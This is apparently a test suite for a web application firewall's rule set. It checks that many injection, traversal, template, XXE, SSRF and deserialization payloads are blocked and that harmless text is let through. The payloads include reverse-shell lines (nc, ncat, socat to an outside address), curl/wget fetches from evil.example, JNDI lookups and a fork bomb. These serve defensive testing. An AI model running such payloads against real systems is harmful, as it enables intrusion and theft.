// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how these attacks are written
import {
  managedRuleSet,
  matchedIds,
  send,
  sendFile,
  sendRequest,
  sendXml,
  sites,
} from './test-support/send.ts';

const DENIED = { action: 'deny', status: 403 };
const JNDI = '${jndi:ldap://evil.example/a}';

describe('rules for values', () => {
  it.each([
    [1002, '4\x02union\x1fall\x0eselect\x03pin'],
    [1002, '4` where 7=7dunion all select pin,2'],
    [1002, '4#x\nunion#y\nall#z\nselect#v\nnull,7'],
    [1002, '4/*!0where 7=7/*!0union/*!0all/*!0select pin'],
    [1002, '4 un/**/ion al/**/l se/**/lect pin'],
    [1002, '%4 %u%n%i%o%n %a%l%l %s%e%l%e%c%t %p%i%n'],
    [1003, "4) waitfor delay \\'0:0:7\\'--"],
    [1006, '4` where 7 like 7 or not 7 like 7'],
    [1006, '4 or binary 7=binary 7'],
    [1008, "4' or sleep 1.e(7 1.e)#"],
    [1009, "1'; select case when 3=3 then 1 else null end"],
    [1005, "1' + (select 'a' from dual where 2=2)"],
    [1005, 'select @@version'],
    [1006, 'or 5=5'],
    [1006, "') order by 7#"],
    [1006, ' having x=x--'],
    [2001, '<details open ontoggle=prompt(8)>'],
    [2001, '<iframe srcdoc="<p>x</p>">'],
    [2001, '<meta http-equiv="refresh" content="0;url=//evil.example">'],
    [2001, '<math><script>1</script></math>'],
    [2002, '<a href="java&Tab;script:top.x()">x</a>'],
    [2002, '" autofocus onfocus="open(1)" x="'],
    [2002, 'data:text/html,<b>x'],
    [2003, "'-prompt(7)-'"],
    [2003, "window['al'+'ert'](3)"],
    [3001, '..%2f..%2fsecret'],
    [3001, '..%u2216config'],
    [3002, 'C:\\windows\\system32\\config'],
    [3002, '/home/jane/.profile'],
    [3002, 'page=etc/passwd'],
    [3002, 'proc/self/environ'],
    [3002, '.git/HEAD'],
    [3003, 'etc%u2215passwd'],
    [3003, 'etc%2fpasswd'],
    [3003, 'etc//passwd'],
    [3003, 'etc\\shadow'],
    [3003, 'etc/group%00'],
    [3005, '/etc/crontab.d'],
    [3003, 'x:::windows:system32'],
    [4001, '; ls'],
    [4001, '| nslookup evil.example'],
    [4001, '$(curl evil.example)'],
    [4001, '&& type secret.txt'],
    [4002, '127.0.0.1;uname -a'],
    [4002, 'report.pdf|/usr/bin/id'],
    [4003, 'x`wget http://evil.example/a`'],
    [4002, 'a;n=$(expr 3)'],
    [4003, 'ping${IFS}-c${IFS}9'],
    [4003, 'John Smith | nc -e /bin/sh 203.0.113.5 4444'],
    [4003, 'John Smith; /usr/bin/ncat 203.0.113.5 4444 -e bash'],
    [4003, 'a meeting at noon && socat tcp:203.0.113.5:443 exec:"/bin/bash",pty'],
    [4003, 'x$((11+31))'],
    [4003, '`id`'],
    [4003, '/b?n/n?tcat'],
    [4003, '--upload-pack=touch /tmp/x'],
    [4004, 'dir c:\\inetpub'],
    [4004, 'powershell -enc AAAA'],
    [4004, 'ls -la /srv'],
    [4004, '/usr/bin/whoami'],
    [4003, '/usr/bin/../etc/pas[s]wd'],
    [4003, 'f(){ f|f& };f'],
    [5001, '() { :; }; echo vulnerable'],
    [6001, JNDI],
    [6001, '${${upper:j}n${lower:d}i:rmi://evil.example}'],
    [6001, '${j${x:y:-n}di:dns://evil.example}'],
    [6002, '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}'],
    [6002, "T(java.lang.Runtime).getRuntime().exec('id')"],
    [6002, 'class.module.classLoader.resources'],
    [7001, "<?php system($_GET['c']); ?>"],
    [7001, '<?= `ls` ?>'],
    [7001, 'phpinfo()'],
    [7001, "');assert('x');//"],
    [7001, "(system)('id')"],
    [7001, "$f='sys'.'tem';$f('id')"],
    [7002, 'php://filter/convert.base64-encode/resource=index'],
    [7002, 'expect://id'],
    [7002, 'http://evil.example/shell.txt?'],
    [8001, '{{7*7}}'],
    [8001, '${ 6 * 9 }'],
    [8001, "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    [8001, '<#assign e="freemarker.template.utility.Execute"?new()>'],
    [8001, '{{_self.env.registerUndefinedFilterCallback("exec")}}'],
    [8001, "@{[system 'id']}"],
    [8003, "x;require('child_process').execSync('id')"],
    [8003, 'this.constructor.constructor("return process")()'],
    [8002, '<!--#exec cmd="ls" -->'],
    [8002, '<esi:include src="http://evil.example/"/>'],
    [10001, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'],
    [10001, '<!ENTITY % all "x">'],
    [11001, 'http://169.254.169.254/latest/meta-data/'],
    [11001, 'http://[::ffff:127.0.0.1]/admin'],
    [11001, 'http://2130706433/'],
    [11001, 'https:/0x7f.0x0.0x0.0x1'],
    [11001, 'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/'],
    [11001, 'gopher://cache.internal:6379/_FLUSHALL'],
    [12002, '{"$ne": null}'],
    [12002, "x' || this.password.match(/^a/)"],
    [13001, '*)(uid=*))(|(uid=*'],
    [13001, "x' or count(/child::node())=1"],
    [14001, 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'],
    [14001, 'O:8:"Some\\Task":1:{s:4:"path";s:1:"x";}'],
    [14001, '!!python/object/apply:os.system ["id"]'],
    [15002, 'en\r\nSet-Cookie: admin=1'],
  ])('%i blocks %s', (id, value) => {
    const audit = send(sites.medium, value);
    expect(matchedIds(audit)).toContain(id);
    expect(audit.interruption).toMatchObject(DENIED);
  });

  it.each([
    // what shells, languages and databases share with prose
    'Tom & Jerry; more tomorrow. Fish | chips, cat & dog.',
    'mir & dir',
    'tags: php;bash;linux | more | less',
    'see ldap://directory.example/dc=x',
    '{"name":{"$in":["a","b"]}}',
    'pages [[10-12]] and [[2020-21]]',
    'name|id|price',
    'id',
    'whoami',
    'bin/console',
    'Alert(s) configured',
    'FYI\nFrom: Jane\nSubject: the plan',
    'https://shop.example/list?type=3&id=5&cat=12&sort=name;dir=up',
    'Run `ls -l` first, then `npm install`; see $(HOME) and ${PATH:-/usr/bin} in the manual.',
    'First lines:\n$ ls -l\n# chown www-data /srv/www\nping -c 3 host, cat /etc/hosts; less than that.',
    '| name | id |\n|------|----|\n| more | 12 |',
    'dog&cat',
    'The class java.lang.NullPointerException at java.lang.Thread.run(Thread.java:745)',
    'Dear {{ name }}, your order ${order.id} costs {% price %} and #{tax}.',
    '<?php /** Title: Page */ ?><h1><?php echo esc_html__( "Welcome", "theme" ); ?></h1>',
    // markup of editors and of pages about pages
    '<!-- wp:group {"layout":{"type":"constrained"}} --><div style="color:#333" class="wp-block">Hi</div>',
    '<iframe width="560" src="https://www.youtube-nocookie.com/embed/x" allowfullscreen></iframe>',
    '<iframe src="//player.vimeo.com/video/1"></iframe><link rel="stylesheet" href="//fonts.example/a.css">',
    '<!--[if mso]><xml><o:OfficeDocumentSettings/></xml><![endif]--><style>@import url(https://fonts.example/a);</style>',
    '<svg viewBox="0 0 24 24"><path d="M12 2L2 7"/></svg> <img src="data:image/png;base64,AAAA" alt="on time = late">',
    'Use <button onClick={() => setOpen(false)}> in a component; javascript: is a scheme.',
    'javascript:void(0)',
    'href="javascript:;"',
    '/online/list/oneway-hgh-bjs?depdate=2023-07-04&adult=1',
    // SQL's words and signs
    '35% COTTON AND 65% POLYESTER.',
    'CHRISTMAS STOCKING "NOT" STUFFER',
    'Please select one (select all that apply) from the list; update it and delete from time to time.',
    "Rock 'n' roll, 'and' so on -- O'Reilly and O'Neill like it; it's 5 > 3.",
    '{"origin":"feed","ranking":"POPULARITY","or":1}',
    'Женщина. Уже одно это слово делает нас мужчинами.\n\t\t-- Н.Векшин',
    'Что бы он сказал теперь? -- "Бернард" Шоу; Ф.Е. Топорищев',
    'union select 怎么用',
    // paths and addresses
    'See ../docs/intro.md and the file /etc/apache2/mods-available/dav.conf for that.',
    '......... oh ..::.. well ... / or',
    'etc/nginx/nginx.conf',
    'etc/passwd',
    'var/log/app.log',
    '.git/',
    '/.git/, node_modules/',
    'http://localhost:3000/callback',
    'order:20261122 costs https: 12345678 or //20261122 and http://example.com/2130706433',
    'https://example.com/a...%E5%85%B3%E9%94%AE?x=1',
    'data:image/svg+xml;base64,PHN2Zz4=',
    // mail, code and documents
    'On Monday she wrote:\n> Content-Type: text/plain\n> Subject: Re: x\n> Location: here',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<?xml version="1.0"?><userInfo><firstName>John</firstName></userInfo>',
    'function(n){ return n.key } // () => { x }',
    'regex (.*)(foo) and f(x)(y); price[$gt] is a filter',
  ])('let through: %s', (text) => {
    const audit = send(sites.medium, text);
    expect(matchedIds(audit)).toEqual([]);
    expect(audit.interruption).toBeNull();
  });

  it.each([
    [1007, '"IS" STAMP'],
    [2004, '<p><iframe src="//a.example/x"></iframe></p>'],
    [3004, 'etc/passwd'],
    [3004, 'The users are in /etc/passwd on most machines.'],
    [4005, 'First do this; cat /srv/list and then that.'],
    [4006, 'wh"oam"i'],
    [6003, 'The name is ${env:HOME} here.'],
    [7004, 'We write <?php include($page); at the top.'],
    [11002, 'http://localhost:3000/callback'],
  ])('%i is for high sensitivity: %s', (id, value) => {
    expect(matchedIds(send(sites.medium, value))).not.toContain(id);
    expect(matchedIds(send(sites.high, value))).toContain(id);
  });
});

describe('rules for other places', () => {
  it.each([
    [5001, ['X-Anything', '() { _; } >_[$($())] { id; }']],
    [6001, ['X-Api-Version', JNDI]],
    [6001, ['X-Forwarded-For', '${${lower:j}ndi:${lower:l}dap://evil.example}']],
    [6002, ['Content-Type', '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}']],
    [14001, ['Authorization', 'Bearer rO0ABXNyAC5qYXZheA']],
    [16001, ['User-Agent', 'sqlmap/1.8#stable (https://sqlmap.org)']],
    [
      16001,
      ['User-Agent', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'],
    ],
    [4003, ['Cookie', 'lang=en$IFS$9x']],
  ] as const)('%i looks at headers: %s', (id, headers) => {
    const audit = sendRequest(sites.medium, { headers });
    expect(matchedIds(audit)).toContain(id);
    expect(audit.interruption).toMatchObject(DENIED);
  });

  it.each([
    [12001, '/login?user=jane&password[$ne]=x'],
    [12001, '/items?%24where=1'],
    [14002, '/items?__proto__[admin]=1'],
    [14002, '/items?a[constructor][prototype][b]=1'],
    [15001, '/go%0d%0aLocation:%20//evil.example'],
    [15001, '/go?to=two%20words%0aSet-Cookie:a=b'],
    [16002, '/item?id=1%C2%BF%27%22%28'],
    [16002, '/login?name=eve%22%27('],
    [17001, '/.git/config'],
    [17001, '/app/.env'],
    [17001, '/wp-config.php.bak'],
    [17001, '/index.php~'],
    [17001, '/actuator/heapdump'],
    [3003, '/?../../etc/hostname'],
    [3007, '/index?Page=etc/passwd'],
    [3007, '/index?lang=etc/shadow'],
  ])('%i looks at the address: %s', (id, target) => {
    const audit = sendRequest(sites.medium, { target });
    expect(matchedIds(audit)).toContain(id);
    expect(audit.interruption).toMatchObject(DENIED);
  });

  it.each([
    ['/.well-known/acme-challenge/token'],
    ['/team/project.git/info/refs?service=git-upload-pack'],
    ['/downloads/site-1.2.tar.gz'],
    ['/sys/user/list?sort=id&order=desc'],
    ['/solr/admin/'],
    ['/access-log?page=2'],
    ['/environment/index.html?__typename=1&constructor=Ferrari'],
    ['/products?price[$gt]=10&filters[name][$eq]=x'],
    ['/search?q=bold+text%0asecond+line:%20yes'],
    ['/search?q=hydra+head+and+zap'],
    ['/artifacts?path=etc/passwd'],
    ['/raw?file=etc/nginx/nginx.conf'],
    ['/search?q=5%27+2%22+(tall)&page=%22it%27s%22+('],
  ])('let the address through: %s', (target) => {
    expect(matchedIds(sendRequest(sites.medium, { target }))).toEqual([]);
  });

  it('look at file names: what a server would run is no upload', () => {
    for (const name of ['a.php', 'a.php.jpg', 'photo.phtml', 'x.jsp;.png', 'x.ASPX'])
      expect(matchedIds(sendFile(sites.medium, name, 'x'))).toContain(7003);
    for (const name of ['a.jpg', 'plan.zip', 'server.cer', 'my.php-notes.txt', 'asp.pdf'])
      expect(matchedIds(sendFile(sites.medium, name, 'x'))).toEqual([]);
  });

  it.each([
    'ldap://evil.example/a',
    String.raw`\\evil.example\share\a`,
    'http://shop.example:80@evil.example/',
    'bGRhcDovL2V2aWwuZXhhbXBsZS9h',
  ])('look at each text of XML from its beginning: %s', (text) => {
    const order = (value: string) => `<order><name>garden chairs</name>\n  <a>\n    ${value}\n  </a></order>`;
    expect(matchedIds(sendXml(sites.medium, order('two of them')))).toEqual([]);
    expect(sendXml(sites.medium, order(text)).interruption).not.toBeNull();
    const inMarkup = order(`<b>${text}</b>`);
    expect(sendXml(sites.medium, inMarkup).interruption).not.toBeNull();
    expect(sendXml(sites.medium, order(`<![CDATA[${text}]]>`)).interruption).not.toBeNull();
  });

  it('look at the declarations and attributes of XML bodies', () => {
    const external =
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/">]><r>&x;</r>';
    expect(matchedIds(sendXml(sites.medium, external))).toContain(10002);
    const laughs = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>';
    expect(matchedIds(sendXml(sites.medium, laughs))).toContain(10002);
    const decoder = '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>';
    expect(matchedIds(sendXml(sites.medium, decoder))).toContain(14003);
    const wide = '<?xml version="1.0" encoding="UTF-16"?><r/>';
    expect(matchedIds(sendXml(sites.medium, wide))).toContain(10002);
    const plain = '<?xml version="1.0" encoding="UTF-8"?><order class="new"><name>Jane & co</name></order>';
    expect(matchedIds(sendXml(sites.medium, plain.replace('&', '&amp;')))).toEqual([]);
  });

  it('look into plain text, which many sites read as something else', () => {
    const headers = ['Content-Type', 'text/plain;charset=UTF-8'];
    const attack = sendRequest(sites.medium, { headers, body: '{"q":"<script>alert(1)</script>"}' });
    expect(matchedIds(attack)).toContain(2001);
    const beacon = sendRequest(sites.medium, { headers, body: '{"page":"/a?b=1&c=2","ms":12.5}' });
    expect(matchedIds(beacon)).toEqual([]);
    const large = sendRequest(sites.medium, { headers, body: 'x '.repeat(200_000) });
    expect(matchedIds(large)).toEqual([]);
  });
});

describe('what the rules say of themselves', () => {
  const described = managedRuleSet.ruleIds.map((id) => managedRuleSet.describe(id)!);
  const detecting = described.filter(
    ({ id, tags }) => id >= 1000 && tags.some((tag) => tag.startsWith('family/')),
  );

  it('names the family first and then what was found, without a full stop', () => {
    expect(detecting.length).toBeGreaterThan(40);
    for (const { message } of detecting) expect(message).toMatch(/^[A-Z][\w -]+: [^.]+[^.]$/);
  });

  it('does not let the words of a message be taken for another class where only the text is known', () => {
    const words = /sql|injection|xss|script|path|traversal|bot|crawler|rate|ddos/i;
    for (const { id, message, tags } of detecting) {
      if (tags.includes('family/bot')) expect(message).toMatch(/^Bad bot/);
      else if (id >= 4000) expect(message).not.toMatch(words);
      else expect(message).toMatch(/^(?:SQL injection|XSS|Path traversal):/);
    }
  });

  it('gives every rule one family, one level, a severity and a score', () => {
    for (const { id, tags, severity, text } of detecting) {
      expect([id, tags.filter((tag) => tag.startsWith('family/')).length]).toEqual([id, 1]);
      expect([id, tags.filter((tag) => /^paranoia-level\/[123]$/.test(tag)).length]).toEqual([id, 1]);
      expect([id, severity]).toEqual([id, severity === 'ERROR' ? 'ERROR' : 'CRITICAL']);
      expect(text).toMatch(/tx\.inbound_anomaly_score=\+|chain/);
    }
  });
});
